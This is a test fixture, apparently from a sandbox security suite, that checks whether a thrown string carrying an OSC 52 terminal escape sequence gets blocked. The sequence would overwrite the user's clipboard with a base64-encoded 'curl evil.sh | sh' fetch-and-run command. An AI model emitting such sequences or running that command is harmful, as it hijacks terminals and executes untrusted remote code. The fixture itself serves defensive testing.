/*---
id: oi-terminal-control-04-thrown-string-osc52
description: A thrown string carries OSC 52, which asks the terminal to
  overwrite the clipboard
kind: malicious
category: output-integrity
technique: OI-terminal-control
variant: plain
references:
  - "sandproof SECURITY.md, claim 10: guest text on terminals, in reports and logs"
  - ECMA-48 control functions (ESC, CSI, OSC)
expect:
  ultra-secure:
    outcome: blocked
    stages:
      - scan
      - runtime
    errors:
      - ERR_SCRIPT_ERROR
  high-security:
    outcome: blocked
    stages:
      - scan
      - runtime
    errors:
      - ERR_SCRIPT_ERROR
  tenant-isolated:
    outcome: blocked
    stages:
      - scan
      - runtime
    errors:
      - ERR_SCRIPT_ERROR
---*/
// A thrown string (no Error at all) carrying OSC 52, which asks the terminal to overwrite the clipboard.
throw '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
